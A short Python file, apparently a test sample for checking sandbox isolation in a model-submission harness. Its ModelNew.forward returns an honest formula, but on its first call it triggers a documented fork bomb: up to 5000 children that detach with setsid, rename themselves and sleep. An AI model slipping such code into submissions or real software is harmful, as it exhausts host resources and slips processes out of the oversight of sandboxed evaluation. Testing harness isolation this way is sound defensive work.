"""Honest maths, but on its first call forks until fork fails (5000 at most); every child
leaves the process group (setsid), names itself kopt_iso_bomb and sleeps."""
import ctypes
import os
import time

import torch
import torch.nn as nn

forked = []


def bomb():
    while len(forked) < 5000:
        try:
            pid = os.fork()
        except OSError as exc:
            print("fork failed after", len(forked), "children:", exc)
            return
        if pid == 0:
            try:
                os.setsid()
                ctypes.CDLL(None).prctl(15, b"kopt_iso_bomb", 0, 0, 0)  # PR_SET_NAME
                time.sleep(600)
            finally:
                os._exit(0)
        forked.append(pid)
    print("forked", len(forked), "children without a limit")


class ModelNew(nn.Module):
    def forward(self, x):
        if not forked:
            bomb()
        return 3.0 / (1.0 + torch.exp(-x)) - x
